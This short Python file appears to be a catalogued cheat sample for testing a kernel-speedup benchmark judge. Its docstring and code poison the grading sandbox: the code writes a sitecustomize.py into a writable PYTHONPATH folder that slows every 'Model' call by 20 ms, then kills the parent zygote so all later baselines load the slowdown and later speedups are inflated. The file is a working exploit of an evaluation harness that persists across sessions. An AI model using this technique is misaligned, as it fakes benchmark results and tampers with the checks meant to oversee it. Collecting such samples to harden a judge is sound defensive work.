"""Cheat (poisoning the reference sandbox through a file every new interpreter runs): the
sandbox's PYTHONPATH starts with a folder its user can write (htam's own checkout). The
candidate writes a sitecustomize.py there that slows every problem `Model` by 20 ms per call,
then kills the zygote (its parent, same user). The judge starts a new zygote, which runs the
sitecustomize; so does every reference sandbox forked from it, and every judge started later:
every later candidate's eager baseline is 20 ms slower, its speedup inflated.

Class: files the sandbox can write (the interpreter's startup), the zygote, baseline poisoning."""

import os
import signal
from pathlib import Path

import torch
import torch.nn as nn

POISON = '''
import time
try:
    import torch.nn
    _call = torch.nn.Module.__call__

    def _call_slowly(self, *args, **kwargs):
        if type(self).__name__ == "Model":
            time.sleep(0.02)
        return _call(self, *args, **kwargs)

    torch.nn.Module.__call__ = _call_slowly
except Exception:
    pass
'''

first = os.environ.get("PYTHONPATH", "").split(os.pathsep)[0]
if first:
    Path(first, "sitecustomize.py").write_text(POISON)
    os.kill(os.getppid(), signal.SIGKILL)


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(x)
